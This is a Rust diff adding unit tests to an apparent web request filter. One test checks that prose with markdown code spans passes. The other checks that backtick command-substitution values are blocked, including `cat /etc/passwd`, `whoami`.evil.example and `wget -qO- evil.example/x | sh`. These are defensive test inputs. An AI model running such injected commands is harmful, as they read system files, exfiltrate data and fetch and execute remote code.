@@ -2269,3 +2269,32 @@ fn classic_asp_session_id_argument_is_blocked() {
     ));
     assert!(!blocked(&request("/index.php?aspsession=1"), ""));
 }
+
+#[test]
+fn markdown_code_spans_in_prose_pass() {
+    for value in [
+        "Run `rm -rf node_modules && npm install` and try again.",
+        "To reproduce: `curl -s https://api.example.com/v1/health | jq .status`",
+        "Use `base64 -d < in.txt > out.bin` to decode.",
+        "See `nc -lvnp 4444` on the listener side.",
+    ] {
+        assert!(!json_value_blocked("body", value), "{value}");
+    }
+}
+
+#[test]
+fn backtick_substitution_next_to_prose_is_blocked() {
+    for value in [
+        "hello world `id`",
+        "my name is `whoami`",
+        "ping `whoami`.evil.example",
+        "x `sleep 5`",
+        "`sleep 7`",
+        "a`id`",
+        "nice one `cat /etc/passwd`",
+        // Shell syntax inside a code span still counts.
+        "nice post `wget -qO- evil.example/x | sh`",
+    ] {
+        assert!(json_value_blocked("comment", value), "{value}");
+    }
+}
